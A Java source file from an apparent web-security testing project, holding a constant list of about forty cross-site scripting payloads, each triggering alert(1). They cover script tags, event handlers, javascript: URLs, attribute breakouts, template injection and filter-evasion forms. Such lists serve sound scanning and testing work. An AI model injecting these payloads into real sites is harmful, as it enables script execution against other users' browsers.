/*
 * Copyright 2026 The Sandpiper Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.sandpiper.standalone;

import java.util.List;

/** What people write where a name is asked for, to have it run on somebody else's screen: each calls alert. */
final class Payloads {

    /** None has a comma, so that a list of labels can be made of them. */
    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "\"onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
            "<a href=javascript:alert(1)>x</a>",
            "javascript:alert(1)",
            "data:text/html;base64;<script>alert(1)</script>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<object data=javascript:alert(1)>",
            "<embed src=javascript:alert(1)>",
            "<math><mtext></table><img src=x onerror=alert(1)>",
            "<style>@import 'javascript:alert(1)'</style>",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=javascript:alert(1)//>",
            "<form><button formaction=javascript:alert(1)>x",
            "<isindex action=javascript:alert(1) type=image>",
            "${alert(1)}",
            "{{constructor.constructor('alert(1)')()}}",
            "`;alert(1);`",
            "';alert(1);//",
            "\";alert(1);//",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<template><img src=x onerror=alert(1)></template>");

    private Payloads() {}
}
